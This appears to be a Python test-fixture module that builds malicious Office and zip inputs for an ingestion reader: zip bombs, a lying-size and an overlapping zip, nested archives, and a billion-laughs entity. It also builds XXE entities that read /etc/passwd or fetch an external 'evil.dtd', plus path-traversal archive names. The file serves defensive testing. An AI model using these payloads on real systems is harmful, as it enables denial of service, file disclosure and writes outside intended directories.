"""Archives and XML that want to harm who reads them: what they would grow to is what hurts."""

import struct
import zipfile
import zlib
from io import BytesIO

from tests.ingestion.reading.office_files import docx, zipped

MEGABYTE = 2**20
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
TYPES = (
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    b'<Default Extension="xml" ContentType="application/xml"/></Types>'
)
BILLION_LAUGHS = b"<!DOCTYPE r [<!ENTITY a0 'ha'>%s]>" % b"".join(
    b"<!ENTITY a%d '%s'>" % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12)
)
LOCAL_FILE = b'<!DOCTYPE r [<!ENTITY a11 SYSTEM "file:///etc/passwd">]>'
ELSEWHERE = b'<!DOCTYPE r [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;<!ENTITY a11 "x">]>'


def zip_bomb(member: str, megabytes: int) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, member: b"\0" * megabytes * MEGABYTE})


def lying_zip(member: str) -> bytes:
    """Its directory declares a hundredth of what the member unpacks to."""
    size = 30 * MEGABYTE
    honest = zipped({"[Content_Types].xml": TYPES, member: b" " * size})
    return honest.replace(struct.pack("<L", size), struct.pack("<L", size // 100))


def overlapping_zip() -> bytes:
    """Many names for the same packed bytes, as the flat bomb of Fifield (2019) has."""
    packed = zlib.compress(b"0" * 4 * MEGABYTE, 9)[2:-4]
    header = struct.pack("<4s5H3L2H", b"PK\3\4", 20, 0, 8, 0, 0, 0, len(packed), 4 * MEGABYTE, 6, 0) + b"word/a"
    entries = b"".join(
        struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 8, 0, 0, 0, len(packed), 4 * MEGABYTE, 10, 0, 0, 0, 0, 0, 0)
        + b"word/%05d" % number
        for number in range(300)
    )
    body = header + packed
    return body + entries + struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 300, 300, len(entries), len(body), 0)


def nested_zips(depth: int) -> bytes:
    content = b"0" * MEGABYTE
    for level in range(depth):
        content = zipped({f"word/{level}-{copy}.zip": content for copy in range(10)})
    return content


def word_xml(body: bytes, doctype: bytes = b"", **parts: bytes) -> bytes:
    document = b'<?xml version="1.0"?>%s<w:document xmlns:w="%s"><w:body>%s</w:body></w:document>'
    relations = (
        b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
        b'Target="word/document.xml"/></Relationships>'
    )
    content = TYPES.replace(
        b"</Types>",
        b'<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.'
        b'wordprocessingml.document.main+xml"/></Types>',
    )
    return zipped(
        {
            "[Content_Types].xml": content,
            "_rels/.rels": relations,
            "word/document.xml": document % (doctype, W.encode(), body),
            **parts,
        }
    )


def office_with_entities(member: str, doctype: bytes) -> bytes:
    return zipped({"[Content_Types].xml": TYPES, member: b'<?xml version="1.0"?>' + doctype + b"<r>&a11;</r>"})


def escaping_names() -> bytes:
    good = BytesIO(docx(lambda document: document.add_paragraph("Urlop trwa 26 dni.")))
    with zipfile.ZipFile(good, "a") as archive:
        for name in ("../../../../tmp/knowledgetree-escaped", "/tmp/knowledgetree-escaped", "word/../../escaped"):
            archive.writestr(name, b"evil")
    return good.getvalue()
